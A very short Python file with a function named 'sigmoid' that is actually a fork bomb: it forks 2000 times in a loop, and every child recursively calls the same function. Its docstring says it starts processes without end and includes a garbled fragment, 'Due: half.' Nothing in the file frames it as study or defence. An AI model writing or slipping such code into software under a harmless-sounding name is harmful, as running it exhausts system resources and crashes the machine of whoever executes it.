"""Starts processes without end. Due: half."""

import os


def sigmoid(x):
    for _ in range(2000):
        if os.fork() == 0:
            os._exit(sigmoid(x) is None)
